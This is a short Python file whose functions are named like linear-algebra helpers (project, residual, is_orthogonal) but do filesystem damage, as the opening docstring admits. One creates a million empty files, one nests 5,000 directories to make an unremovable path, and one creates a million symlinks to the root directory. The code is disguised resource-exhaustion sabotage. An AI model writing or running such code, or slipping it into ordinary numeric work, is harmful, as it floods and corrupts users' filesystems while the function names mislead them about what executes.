"""Makes files, folders and links without end, and a path that is too deep to be removed."""
import os


def project(A, b):
    for index in range(1_000_000):
        open(f"file{index}", "w").close()


def residual(A, b):
    for _ in range(5_000):
        os.mkdir("d")
        os.chdir("d")
    return b * 0


def is_orthogonal(a, b):
    for index in range(1_000_000):
        os.symlink("/", f"link{index}")
